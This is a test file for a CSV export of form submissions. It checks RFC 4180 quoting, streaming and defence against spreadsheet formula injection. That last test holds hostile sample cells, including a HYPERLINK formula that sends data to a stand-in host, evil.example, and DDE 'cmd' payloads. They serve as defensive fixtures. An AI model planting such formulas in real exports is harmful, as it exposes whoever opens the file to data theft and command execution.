// The export, read back by a parser that knows only RFC 4180.
import { buffer } from 'node:stream/consumers';
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { type CsvOptions, toCsv } from '../../src/forms/csv.ts';
import type { Submission, SubmissionValue } from '../../src/forms/submission.ts';
import { nextTurn } from '../../src/lib/queues/slices.ts';

function makeSubmission(data: Record<string, SubmissionValue>, change: Partial<Submission> = {}): Submission {
  return {
    id: 'id1',
    form: 'contact',
    data,
    status: 'new',
    ipHash: '0a1b2c3d',
    userAgent: 'test',
    createdAt: '2026-01-02T03:04:05.678Z',
    ...change,
  };
}

async function* each(submissions: readonly Submission[]): AsyncGenerator<Submission> {
  yield* submissions;
}

async function write(options: CsvOptions, ...submissions: Submission[]): Promise<string> {
  // Decoded without dropping a byte order mark, unlike other decoders.
  return (await buffer(toCsv(each(submissions), options))).toString('utf8');
}

/** RFC 4180, section 2. */
function parse(csv: string): string[][] {
  const rows: string[][] = [[]];
  const cell = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y;
  while (cell.lastIndex < csv.length) {
    const at = cell.lastIndex;
    const [, quoted, plain = '', end] = cell.exec(csv) ?? [];
    if (end === undefined) throw new Error(`no cell at ${at}: ${csv.slice(at, at + 20)}`);
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

test('the columns are ours, then the fields, and lines end as RFC 4180 says', async () => {
  const read = makeSubmission(
    { name: 'Ada', age: 36, terms: true },
    { status: 'read', readAt: '2026-01-03T00:00:00.000Z' },
  );
  assert.is(
    await write({ fields: ['name', 'age', 'terms', 'gone'] }, read),
    'id,status,createdAt,readAt,name,age,terms,gone\r\n' +
      'id1,read,2026-01-02T03:04:05.678Z,2026-01-03T00:00:00.000Z,Ada,36,true,\r\n',
  );
});

test('the export of a form without submissions has only the column names', async () => {
  assert.is(await write({ fields: ['name'] }), 'id,status,createdAt,readAt,name\r\n');
});

test('the export has a byte order mark on request', async () => {
  assert.is((await write({ fields: [] })).startsWith('id'), true);
  assert.is((await write({ fields: [], bom: true })).startsWith('\uFEFFid'), true);
});

test('any typed text survives the export unchanged', async () => {
  const typed = [
    'a, b; c',
    'she said "no"',
    '"',
    '""',
    'one\ntwo',
    'one\r\ntwo',
    'lone\rreturn',
    ' spaces ',
    'Ærø – 日本 🙂',
    "it's",
    '\\"',
    ',',
    '\n',
    'null',
    '\u2028',
  ];
  const csv = await write({ fields: ['text'] }, ...typed.map((one) => makeSubmission({ text: one })));
  assert.equal(
    parse(csv).map((row) => row[4]),
    ['text', ...typed],
  );
});

test('a cell that a spreadsheet would run is prefixed with an apostrophe, even in quotes', async () => {
  const formulas = [
    '=1+1',
    '+49 30 1234',
    '-5',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
  ];
  const csv = await write({ fields: ['text'] }, ...formulas.map((one) => makeSubmission({ text: one })));
  assert.equal(
    parse(csv)
      .slice(1)
      .map((row) => row[4]),
    formulas.map((one) => `'${one}`),
  );
  assert.equal(parse(await write({ fields: ['n'] }, makeSubmission({ n: -5 })))[1]![4], "'-5");
  assert.equal(parse(await write({ fields: ['n'] }, makeSubmission({ n: 5 })))[1]![4], '5');
  for (const harmless of ['a=1', ' =1', '1-2', 'me@example.com', "'=1"]) {
    assert.is(parse(await write({ fields: ['t'] }, makeSubmission({ t: harmless })))[1]![4], harmless);
  }
});

test('a field with the name of an inherited property is empty if it was not sent', async () => {
  const csv = await write({ fields: ['toString', '__proto__'] }, makeSubmission({}));
  assert.equal(parse(csv)[1]!.slice(4), ['', '']);
});

test('rows are made as they are read, and no longer once the reader has gone', async () => {
  let made = 0;
  let ended = false;
  async function* endless(): AsyncGenerator<Submission> {
    try {
      for (;;) {
        made++;
        yield makeSubmission({ text: 'x'.repeat(1000) });
      }
    } finally {
      ended = true;
    }
  }
  const csv = toCsv(endless(), { fields: ['text'] });
  for await (const chunk of csv) {
    assert.ok(chunk);
    break;
  }
  assert.ok(made < 200, `${made} rows were made for one chunk`);
  await nextTurn();
  assert.ok(ended, 'reading the submissions has ended');
});

test('an error while reading submissions breaks the file, so that it does not look whole', async () => {
  async function* broken(): AsyncGenerator<Submission> {
    yield makeSubmission({});
    throw new Error('the disk is gone');
  }
  let heard: unknown;
  try {
    await buffer(toCsv(broken(), { fields: [] }));
  } catch (error) {
    heard = error;
  }
  assert.match(String(heard), /the disk is gone/);
});

test.run();
